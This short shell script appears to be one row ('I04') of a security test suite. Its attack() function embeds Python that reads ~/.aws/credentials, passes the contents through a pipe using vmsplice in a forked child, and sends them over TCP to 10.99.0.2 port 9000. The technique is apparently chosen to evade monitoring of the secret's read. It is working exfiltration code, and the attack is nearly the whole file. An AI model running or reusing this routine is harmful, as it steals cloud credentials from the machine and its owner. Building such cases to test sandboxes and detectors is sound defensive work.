# SPDX-License-Identifier: Apache-2.0
TITLE="the sender takes the pages out of the pipe by vmsplice, waiting for them before the secret is read"
ROW="I04"
NEEDS=python3
attack() {
	python3 - <<-'END'
	import ctypes, os, socket, time
	libc = ctypes.CDLL(None, use_errno=True)
	class Span(ctypes.Structure):
	    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
	reads, writes = os.pipe()
	if os.fork() == 0:
	    room = ctypes.create_string_buffer(4096)
	    span = Span(ctypes.addressof(room), 4096)
	    n = libc.vmsplice(reads, ctypes.byref(span), 1, 0)
	    socket.create_connection(('10.99.0.2', 9000), 5).sendall(room.raw[:n])
	    os._exit(0)
	time.sleep(0.3)
	os.write(writes, open(os.path.expanduser('~/.aws/credentials'), 'rb').read())
	os.wait()
	END
}
